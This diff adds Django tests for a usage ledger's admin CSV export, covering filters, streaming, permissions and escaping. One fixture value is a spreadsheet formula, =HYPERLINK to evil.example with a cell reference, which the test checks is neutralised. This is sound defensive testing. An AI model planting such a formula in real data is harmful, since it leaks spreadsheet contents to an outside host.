@@ -1,4 +1,4 @@
-"""The usage ledger in the admin: its filters and the admin's frame (title, icon).
+"""The usage ledger in the admin: its filters, its CSV export and the admin's frame (title, icon).
 
 The cast: carol (team Acme, key "ci") and dave (team Globex, key "batch")
 call through the registry's route `auto`; dave also calls a model that has
@@ -8,17 +8,21 @@ herself and her request names that a spreadsheet would run as formulas.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import re
 from dataclasses import dataclass
 from decimal import Decimal
 from typing import Any
 
 import pytest
+from asgiref.sync import async_to_sync
 from django.contrib import admin
 from django.contrib.auth import get_user_model
+from django.contrib.auth.models import Permission
 from django.db import connection
-from django.test import Client, RequestFactory
+from django.test import AsyncClient, Client, RequestFactory
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
@@ -30,7 +34,30 @@ from routing.models import LanguageModel, Provider, Route
 pytestmark = pytest.mark.django_db
 
 CHANGELIST = reverse("admin:billing_usagerecord_changelist")
+EXPORT = reverse("admin:billing_usagerecord_export")
 WHEN = dt.datetime(2026, 11, 30, 23, 59, 58, 123456, tzinfo=dt.UTC)
+HEADER = [
+    "created_at",
+    "request_id",
+    "user",
+    "team",
+    "api_key_prefix",
+    "requested",
+    "route",
+    "model",
+    "provider",
+    "status",
+    "error_kind",
+    "input_tokens",
+    "output_tokens",
+    "tokens_estimated",
+    "input_price_per_million",
+    "output_price_per_million",
+    "cost_usd",
+    "unpriced",
+    "latency_ms",
+    "ttft_ms",
+]
 
 
 @dataclass
@@ -128,6 +155,14 @@ def listed(client: Client, query: str) -> list[str]:
     return [row.request_id for row in response.context["cl"].result_list]
 
 
+def exported(client: Client, query: str = "") -> list[list[str]]:
+    response = client.get(EXPORT + query)
+    assert response.status_code == 200, response
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="usage-records-')
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
 def test_each_filter_narrows_the_list(admin_client: Client, ledger: Cast) -> None:
     assert set(listed(admin_client, f"?team__id__exact={ledger.acme.pk}")) == {"chatcmpl-carol"}
     assert set(listed(admin_client, f"?user__id__exact={ledger.dave.pk}")) == {
@@ -195,6 +230,118 @@ def test_the_filters_read_no_distinct_values_of_the_ledger(rf: RequestFactory, a
     ]  # fmt: skip
     assert not any("DISTINCT" in query["sql"].upper() for query in queries), [q["sql"] for q in queries]
     assert not changelist.add_facets and not changelist.is_facets_optional
+
+
+def test_the_list_links_its_export_with_its_filters(admin_client: Client, ledger: Cast) -> None:
+    page = admin_client.get(f"{CHANGELIST}?route=coding&status=error").content.decode()
+
+    assert f'href="{EXPORT}?route=coding&amp;status=error" data-testid="export-csv">Export CSV</a>' in page
+
+
+def test_the_export_has_the_header_and_every_value_as_booked(admin_client: Client, ledger: Cast) -> None:
+    rows = exported(admin_client, f"?user__id__exact={ledger.carol.pk}")
+
+    assert rows == [
+        HEADER,
+        [
+            "2026-11-30T23:59:58.123456+00:00",
+            "chatcmpl-carol",
+            "carol",
+            "acme",
+            ledger.ci.prefix,
+            "auto",
+            "auto",
+            "sim/quick",
+            "sim",
+            "ok",
+            "",
+            "1234",
+            "567",
+            "true",
+            "1.000000",
+            "4.000000",
+            "0.0035020000",  # (1,234 × $1 + 567 × $4) / 1M, to the 10 places booked
+            "false",
+            "812",
+            "95",
+        ],
+    ]
+
+
+def test_the_export_leaves_an_unknown_cost_empty_and_says_it_is_unpriced(admin_client: Client, ledger: Cast) -> None:
+    header, *rows = exported(admin_client, f"?user__id__exact={ledger.dave.pk}&o=1")
+    by_id = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
+
+    assert list(by_id) == ["chatcmpl-dave-failed", "pg-dave-unpriced"]  # ordered as the list (o=1: by request id)
+    failed, unpriced = by_id["chatcmpl-dave-failed"], by_id["pg-dave-unpriced"]
+    assert (failed["status"], failed["error_kind"], failed["model"]) == ("error", "rate_limited", "")
+    assert (failed["cost_usd"], failed["unpriced"], failed["ttft_ms"]) == ("", "false", "")
+    assert (unpriced["cost_usd"], unpriced["unpriced"], unpriced["api_key_prefix"]) == ("", "true", "")
+    assert (unpriced["input_price_per_million"], unpriced["output_price_per_million"]) == ("", "")
+
+
+def test_the_export_follows_the_list_s_filters_search_and_dates(admin_client: Client, ledger: Cast) -> None:
+    for query in (
+        "",
+        "?status=unpriced",
+        "?team__id__exact=1000",
+        "?q=chatcmpl-mallory",
+        "?created_at__year=2026&created_at__month=11&created_at__day=30",
+    ):
+        assert [row[1] for row in exported(admin_client, query)[1:]] == listed(admin_client, query), query
+
+
+def test_under_asgi_the_export_is_read_and_sent_2000_rows_at_a_time(admin_user: Any, ledger: Cast) -> None:
+    """Under ASGI, as the site is served, Django would read a synchronous iterator whole before sending it."""
+    UsageRecord.objects.bulk_create(
+        UsageRecord(request_id=f"chatcmpl-{n}", created_at=WHEN, requested="auto", status="ok") for n in range(2_500)
+    )
+    client = AsyncClient()
+    client.force_login(admin_user)
+
+    async def export() -> tuple[bool, list[bytes]]:
+        response = await client.get(EXPORT)
+        return response.is_async, [chunk async for chunk in response.streaming_content]
+
+    is_async, chunks = async_to_sync(export)()
+
+    assert is_async
+    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 2_000, 504]  # the header, then 2,504 rows
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(admin_client: Client, ledger: Cast) -> None:
+    _, row = exported(admin_client, f"?user__id__exact={ledger.mallory.pk}")
+
+    assert row[2] == """'=HYPERLINK("https://evil.example/?"&A1)"""
+    assert row[5] == "'-2+3"
+    assert row[3] == ""  # no team
+
+
+def test_a_filter_the_list_refuses_is_left_to_the_list_to_explain(admin_client: Client, ledger: Cast) -> None:
+    response = admin_client.get(f"{EXPORT}?user__id__exact=nobody")
+
+    assert response.status_code == 302
+    assert response["Location"] == f"{CHANGELIST}?user__id__exact=nobody"
+
+
+def test_only_staff_allowed_to_view_usage_records_may_export(ledger: Cast) -> None:
+    client = Client()  # this package's `client` fixture is an OpenAI SDK client
+    users = get_user_model().objects
+    member = users.create_user("member")
+    staff = users.create_user("staff", is_staff=True)
+    auditor = users.create_user("auditor", is_staff=True)
+    auditor.user_permissions.add(Permission.objects.get(codename="view_usagerecord"))
+
+    assert client.get(EXPORT).status_code == 302
+    client.force_login(member)
+    refused = client.get(EXPORT)
+    client.force_login(staff)
+    forbidden = client.get(EXPORT)
+    client.force_login(auditor)
+
+    assert (refused.status_code, refused["Location"]) == (302, f"/admin/login/?next={EXPORT}")
+    assert forbidden.status_code == 403
+    assert len(exported(client)) == 1 + 4
 
 
 def test_the_admin_is_titled_switchyard(admin_client: Client) -> None:
